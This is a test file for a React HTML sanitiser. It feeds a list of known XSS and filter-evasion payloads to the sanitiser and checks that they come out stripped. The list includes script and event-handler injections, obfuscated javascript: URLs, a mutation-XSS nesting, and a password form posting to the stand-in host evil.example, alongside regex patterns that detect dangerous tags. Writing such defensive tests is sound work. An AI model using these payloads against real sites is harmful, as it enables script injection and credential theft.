// @vitest-environment jsdom
// happy-dom mis-walks the DOM as DOMPurify 3.4 reads it (it kept <img onerror> there); jsdom does not.
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { SafeHtml, sanitiseHtml } from './safe-html';

afterEach(cleanup);

/** Payloads from the XSS probes (e2e/attack) and the classic filter-evasion list. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '"><img src=x onerror=alert(1)>',
];

describe('sanitiseHtml', () => {
  it.each(PAYLOADS)('leaves nothing that runs or posts: %s', (payload) => {
    const clean = sanitiseHtml(payload).toLowerCase();
    expect(clean).not.toMatch(/<script|<iframe|<object|<embed|<meta|<form|<input|<button|<style/);
    expect(clean).not.toMatch(/\son[a-z]+\s*=/);
    expect(clean).not.toContain('javascript:');
    expect(clean).not.toContain('style=');
  });

  it('keeps ordinary rich text', () => {
    const html =
      '<p><strong>Bold</strong> and <em>italic</em></p><ul><li>one</li></ul><img src="/media/a.png" alt="A">';
    expect(sanitiseHtml(html)).toBe(html);
  });

  it('gives every link rel=noopener, even one that asked for a new window', () => {
    const clean = sanitiseHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>');
    const link = new DOMParser().parseFromString(clean, 'text/html').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });
});

describe('SafeHtml', () => {
  it('renders the sanitised HTML in the chosen element', () => {
    const { container } = render(
      <SafeHtml as="span" className="stem" html={'<b>Which</b> is right?<img src=x onerror="alert(1)">'} />,
    );
    const span = container.querySelector('span.stem');
    expect(span?.querySelector('b')?.textContent).toBe('Which');
    expect(span?.querySelector('img')?.hasAttribute('onerror')).toBe(false);
  });
});
